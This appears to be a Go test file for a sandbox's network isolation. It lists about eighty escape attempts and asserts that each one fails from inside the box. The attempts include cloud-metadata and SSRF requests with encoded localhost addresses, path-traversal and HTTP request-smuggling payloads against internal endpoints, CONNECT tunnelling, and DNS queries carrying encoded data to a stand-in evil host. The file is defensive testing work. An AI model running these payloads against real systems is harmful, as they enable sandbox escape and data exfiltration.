//go:build linux

package native_test

import (
	"fmt"
	"os/exec"
	"strings"
	"testing"

	"github.com/reflection-dev/zeno/internal/need"
)

// netAttacks are ways out of a box's network, each a shell command that succeeds where the way is open. works, where it is
// given, is the same from the host: an attack that fails everywhere shows nothing. UPSTREAM, GATEWAY, NREPL, NPORT and
// CONTROL stand for what the host has.
var netAttacks = []struct{ name, works, inside string }{
	{"address", "curl -skf https://UPSTREAM/", "curl -skf -m5 https://UPSTREAM/"},
	{"public address", "", "curl -skf -m5 https://93.184.216.34/"},
	{"synthetic address without a name", "", "curl -skf -m5 https://198.18.200.7/"},
	{"metadata", "", "curl -sf -m5 http://169.254.169.254/latest/meta-data/"},
	{"metadata over IPv6", "", "curl -gsf -m5 http://[fd00:ec2::254]/latest/meta-data/"},
	{"name that is not allowed", "", "curl -skf -m5 https://evil.example.net/"},
	{"Host that is not the SNI", "curl -skf -H 'Host: hidden.example.com' https://UPSTREAM/", "curl -sf -m5 -H 'Host: hidden.example.com' https://example.com/"},
	{"Host of another allowed name", "", "curl -sf -m5 -H 'Host: rebind.example.com' https://example.com/"},
	{"SNI that is not the name", "", "curl -skf -m5 --connect-to evil.example.net:443:example.com:443 https://evil.example.net/"},
	{"Host in HTTP/2", "", "curl -sf -m5 --http2 -H 'Host: hidden.example.com' https://example.com/"},
	{"other port of an allowed name", "", "curl -skf -m5 https://example.com:22/"},
	{"plain HTTP to a name that has TLS only", "", "curl -sf -m5 http://example.com/"},
	{"CONNECT", "", "curl -skf -m5 -p -x http://example.com:443 https://evil.example.net/"},
	{"CONNECT inside TLS", "", "curl -skf -m5 -p --proxy-insecure -x https://example.com:443 https://evil.example.net/"},
	{"CONNECT at the endpoint", "", "curl -skf -m5 -p -x http://zeno.internal:80 https://evil.example.net/"},
	{"forward proxy", "", "curl -sf -m5 -x http://zeno.internal:80 http://NREPL/"},
	{"redirect to the metadata", "", "curl -skfL -m5 'https://example.com/redirect?to=http://169.254.169.254/'"},
	{"redirect to the host", "curl -skfL 'https://UPSTREAM/redirect?to=http://NREPL/'", "curl -skfL -m5 'https://example.com/redirect?to=http://NREPL/'"},
	{"redirect to another name", "", "curl -skfL -m5 'https://example.com/redirect?to=https://evil.example.net/'"},
	{"name that leads to the host", "", "curl -sf -m5 http://rebind.example.com:NPORT/"},
	{"another role's endpoint", "curl -sf http://GATEWAY/mcp/reader", "curl -sf -m5 http://zeno.internal/mcp/reader"},
	{"another role's by dots", "", "curl -sf -m5 --path-as-is http://zeno.internal/mcp/worker/../reader"},
	{"another role's by coded dots", "", "curl -sf -m5 --path-as-is http://zeno.internal/mcp/worker/%2e%2e/reader"},
	{"another role's by a coded slash", "", "curl -sf -m5 --path-as-is http://zeno.internal/mcp%2freader"},
	{"another role's by two slashes", "", "curl -sf -m5 --path-as-is http://zeno.internal//mcp/reader"},
	{"another role's by an absolute target", "", "curl -sf -m5 --request-target http://zeno.internal/mcp/reader http://zeno.internal/mcp/worker"},
	{"the gateway's other paths", "curl -sf http://GATEWAY/control/spawns", "curl -sf -m5 http://zeno.internal/control/spawns"},
	{"the gateway's root", "curl -sf http://GATEWAY/", "curl -sf -m5 http://zeno.internal/"},
	{"the gateway's address", "curl -sf http://GATEWAY/mcp/reader", "curl -sf -m5 http://GATEWAY/mcp/reader"},
	{"the nREPL's port", "curl -sf http://NREPL/", "curl -sf -m5 http://NREPL/"},
	{"the nREPL by the endpoint's name", "", "curl -sf -m5 http://zeno.internal:NPORT/"},
	{"the control socket", "curl -sSf --unix-socket CONTROL http://x/", "curl -sf -m5 --unix-socket CONTROL http://x/"},
	{"IPv6 of an allowed name", "", "curl -6 -sf -m5 https://example.com/"},
	{"IPv6", "", "curl -gsf -m5 -k 'https://[2606:4700::1111]/'"},
	{"IPv4 in IPv6", "", "curl -gskf -m5 'https://[::ffff:127.0.0.1]/'"},
	{"the host by a number", "", "curl -sf -m5 http://2130706433:NPORT/"},
	{"the host by hexadecimal", "", "curl -sf -m5 http://0x7f000001:NPORT/"},
	{"the host by octal", "", "curl -sf -m5 http://0177.0.0.1:NPORT/"},
	{"the host by a short address", "", "curl -sf -m5 http://127.1:NPORT/"},
	{"the host by no address", "", "curl -sf -m5 http://0.0.0.0:NPORT/"},
	{"the host by no IPv6 address", "", "curl -gsf -m5 'http://[::]:NPORT/'"},
	{"the host by IPv4 in IPv6", "", "curl -gsf -m5 'http://[::ffff:7f00:1]:NPORT/'"},
	{"the host by an address with a zone", "", "curl -gsf -m5 'http://[fe80::1%25lo]:NPORT/'"},
	{"the host by its name", "", "curl -sf -m5 http://$(cat /proc/sys/kernel/hostname):NPORT/"},
	{"the host by localhost", "", "curl -sf -m5 http://localhost:NPORT/"},
	{"metadata by a number", "", "curl -sf -m5 http://2852039166/latest/meta-data/"},
	{"metadata by its name", "", "curl -sf -m5 http://metadata.google.internal/"},
	{"name with a dot at its end", "", "curl -skf -m5 https://evil.example.net./"},
	{"name in other letters", "", "curl -skf -m5 https://EVIL.example.net/"},
	{"name with an allowed one before it", "", "curl -skf -m5 https://example.com.evil.example.net/"},
	{"name with an allowed one as its user", "", "curl -skf -m5 https://example.com@evil.example.net/"},
	{"another role's by a dot in the name", "", "curl -sf -m5 http://zeno.internal./mcp/reader"},
	{"another role's by capitals", "", "curl -sf -m5 http://ZENO.INTERNAL/MCP/READER"},
	{"another role's by a parameter", "", "curl -sf -m5 --path-as-is 'http://zeno.internal/mcp/worker;/../reader'"},
	{"another role's by a NUL", "", "curl -sf -m5 --path-as-is http://zeno.internal/mcp/reader%00/worker"},
	{"another role's by h2 in plain", "", "curl -sf -m5 --http2-prior-knowledge http://zeno.internal/mcp/reader"},
	{"another role's behind its own", "", said(`POST /mcp/worker HTTP/1.1\r\nHost: zeno.internal\r\nContent-Length: 5\r\n\r\nhelloGET /mcp/reader HTTP/1.1\r\nHost: zeno.internal\r\nConnection: close\r\n\r\n`)},
	{"another role's in a body of two lengths", "", said(`POST /mcp/worker HTTP/1.1\r\nHost: zeno.internal\r\nContent-Length: 61\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /mcp/reader HTTP/1.1\r\nHost: zeno.internal\r\nConnection: close\r\n\r\n`)},
	{"another role's by an upgrade", "", said(`GET /mcp/worker HTTP/1.1\r\nHost: zeno.internal\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\nGET /mcp/reader HTTP/1.1\r\nHost: zeno.internal\r\nConnection: close\r\n\r\n`)},
	{"another role's by a backslash", "", said(`GET /mcp/worker/..\\reader HTTP/1.1\r\nHost: zeno.internal\r\nConnection: close\r\n\r\n`)},
	{"another role's in a header that is two", "", said(`GET /mcp/worker HTTP/1.1\r\nHost: zeno.internal\r\nX: a\nGET /mcp/reader HTTP/1.1\r\nConnection: close\r\n\r\n`)},
	{"CONNECT through CONNECT", "", "curl -skf -m5 -p -x http://zeno.internal:80 --preproxy http://example.com:80 https://evil.example.net/"},
	{"DNS of another class", "", udp(`s.sendto(b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\7example\3com\0\0\1\0\3", ("127.0.0.53", 53)); assert s.recv(1500)[7] > 0`)},
	{"DNS of every type", "", udp(`ask("127.0.0.53", b"c2VjcmV0.evil.example.net", 255)`)},
	{"a header that ends early", "", `printf 'GET / HTTP/1.1\r\nHost: example.com\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: hidden.example.com\r\n\r\n' | timeout 5 openssl s_client -quiet -CAfile $SSL_CERT_FILE -servername example.com -connect example.com:443 2>/dev/null | grep -q smuggled`},
	{"a line of its own in a header", "", `printf 'GET / HTTP/1.1\r\nHost: example.com\r\nX: a\rHost: hidden.example.com\r\n\r\n' | timeout 5 openssl s_client -quiet -CAfile $SSL_CERT_FILE -servername example.com -connect example.com:443 2>/dev/null | grep -q '^HTTP/1.1 200'`},
	{"a protocol that is not HTTP", "", `printf 'SSH-2.0-x\r\n' | timeout 5 openssl s_client -quiet -CAfile $SSL_CERT_FILE -servername example.com -connect example.com:443 2>/dev/null | grep -qi 'ssh'`},
	{"QUIC", "", udp(`import os; s.sendto(b"\xc0" + os.urandom(1199), ("example.com", 443)); s.recv(1)`)},
	{"DNS that carries data", "", udp(`ask("127.0.0.53", b"c2VjcmV0.evil.example.net", 1)`)},
	{"DNS that carries data in a text record", "", udp(`ask("127.0.0.53", b"c2VjcmV0.example.com", 16)`)},
	{"DNS below an allowed name", "", udp(`ask("127.0.0.53", b"c2VjcmV0.example.com", 1)`)},
	{"DNS of another server", "", udp(`ask("8.8.8.8", b"evil.example.net", 1)`)},
	{"DNS over TCP", "", `python3 -c 'import socket; socket.create_connection(("8.8.8.8", 53), 3)'`},
	{"DNS over TLS", "", `python3 -c 'import socket; socket.create_connection(("1.1.1.1", 853), 3)'`},
	{"ping", "", `python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)'`},
	{"another route", "", "ip route add 10.0.0.0/8 dev lo"},
	{"another interface", "", "ip link add d0 type dummy"},
	{"a server in the proxy's place", "", `python3 -c 'import socket; s = socket.socket(); s.setsockopt(1, 2, 1); s.setsockopt(1, 15, 1); s.bind(("198.18.0.1", 443)); s.listen()'`},
}

// said is a Python program that says a text to the endpoint's name; it fails where the answer is not of another role's.
func said(text string) string {
	return `python3 -c '
import socket
s = socket.create_connection(("zeno.internal", 80), 5); s.settimeout(5); s.sendall(b"` + text + `"); got = b""
while True:
    more = s.recv(65536)
    if not more: break
    got += more
assert b"gateway /mcp/reader" in got'`
}

// udp is a Python program with a socket; ask fails where the answer holds no record.
func udp(text string) string {
	return `python3 -c '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
def ask(server, name, kind):
    s.sendto(b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0" + b"".join(bytes([len(p)]) + p for p in name.split(b".")) + bytes([0, 0, kind, 0, 1]), (server, 53))
    assert s.recv(1500)[7] > 0
` + text + `'`
}

// No attack leads anywhere from inside a real box, and what the host has there is not touched.
func TestNoAttackGetsOutOfTheNetwork(t *testing.T) {
	for _, p := range [][2]string{{"curl", "curl"}, {"python3", "python3"}, {"openssl", "openssl"}, {"ip", "iproute2"}} {
		need.Program(t, p[0], p[1])
	}
	o := newOutside(t)
	fill := strings.NewReplacer("UPSTREAM", o.up.Listener.Addr().String(), "GATEWAY", o.gateway.Listener.Addr().String(), "NREPL", o.nrepl,
		"NPORT", o.nrepl[strings.LastIndexByte(o.nrepl, ':')+1:], "CONTROL", o.control).Replace
	var script strings.Builder
	script.WriteString("curl -sf -m120 https://example.com/ >/dev/null; echo \"the allowed name = $?\"\n")
	for _, a := range netAttacks {
		if a.works != "" {
			if out, err := exec.Command("sh", "-c", fill(a.works)).CombinedOutput(); err != nil {
				t.Errorf("%s shows nothing: from the host it should work: %v %s", a.name, err, out)
			}
		}
		fmt.Fprintf(&script, "(%s) >/tmp/out 2>&1; echo \"%s = $? $(head -c 200 /tmp/out | tr '\\n\\0' '  ')\"\n", fill(a.inside), a.name)
	}
	before := o.touched.Load()
	requests, _, _ := o.seen()
	o.rebound.Store(true)
	res := o.run(backend(t), script.String())
	lines := strings.Split(strings.TrimSpace(res.Out), "\n")
	if len(lines) != len(netAttacks)+1 || lines[0] != "the allowed name = 0" {
		t.Fatalf("got %d answers, want %d, the first of which works:\n%s\n%s", len(lines), len(netAttacks)+1, res.Out, res.Err)
	}
	for i, line := range lines[1:] {
		if strings.HasPrefix(line, netAttacks[i].name+" = 0 ") || strings.HasPrefix(line, netAttacks[i].name+" = 127 ") {
			t.Errorf("got out, or the program is missing: %s", line)
		}
	}
	if n := o.touched.Load() - before; n != 0 {
		t.Errorf("services of the host were reached %d times", n)
	}
	after, _, events := o.seen()
	for _, r := range after[len(requests):] {
		if r != "example.com /" && r != "example.com /redirect" && r != o.gateway.Listener.Addr().String()+" /mcp/worker" {
			t.Errorf("a request went out: %s", r)
		}
	}
	if found := spelled(events); len(found) > 0 {
		t.Errorf("the events hold the secret's value, as %q", found)
	}
}
